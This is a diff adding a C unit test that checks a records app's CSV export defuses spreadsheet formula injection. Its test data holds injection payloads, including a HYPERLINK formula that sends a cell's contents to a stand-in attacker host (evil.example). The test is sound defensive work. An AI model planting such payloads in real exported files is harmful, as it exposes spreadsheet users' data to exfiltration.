@@ -768,3 +768,36 @@ Test(export, home_reported_activities_come_first_with_the_muscles_they_keep_goin
   json_decref(j);
   buf_free(&b);
 }
+
+Test(export, csv_cells_never_formulas) {
+  /* A client whose free text starts like a formula: a spreadsheet must show it, not run it. */
+  sql("INSERT INTO client (id, name, birth, created, updated) VALUES (4, '=HYPERLINK(\"http://evil.example\",\"x\")',"
+      " '1980-01-01', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')", NULL);
+  static const char *const items[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd", "-2+3",
+                                      "@SUM(A1:A9)", "\tTAB", "=1,2"};
+  for (size_t i = 0; i < sizeof items / sizeof items[0]; i++)
+    sql("INSERT INTO measure (client_id, date, kind, item, value, created)"
+        " VALUES (4, '2026-10-01', 'psfs', $1, 3, '2026-10-01T08:00:00Z')", items[i], NULL);
+  sql("INSERT INTO measure (client_id, date, kind, item, value, created)"
+      " VALUES (4, '2026-10-02', 'rom', 'cervical:rotation-l', -5, '2026-10-01T08:00:00Z')", NULL);
+  buf out;
+  buf_init(&out);
+  char err[256];
+  cr_assert_eq(export_csv(db, k, 4, &out, err, sizeof err), 0, "%s", err);
+  cr_expect(strstr(out.data, ",psfs,'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\"),3,") == NULL,
+            "quoted cells start with a quote inside the quotes");
+  cr_expect(strstr(out.data, ",psfs,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",psfs,'+1+cmd,3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",psfs,'-2+3,3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",psfs,'@SUM(A1:A9),3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",psfs,'\tTAB,3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",psfs,\"'=1,2\",3,"), "%s", out.data);
+  cr_expect(strstr(out.data, ",rom,cervical:rotation-l,-5,"), "a negative number stays a number: %s", out.data);
+  static char f[32][6][128];
+  int ncols[32];
+  int n = csv_parse(out.data, f, 32, ncols);
+  for (int r = 0; r < n; r++)
+    for (int c = 0; c < ncols[r]; c++)
+      if (f[r][c][0] && strchr("=+@\t\r", f[r][c][0])) cr_expect(0, "record %d cell %d is a formula: %s", r, c, f[r][c]);
+  buf_free(&out);
+}
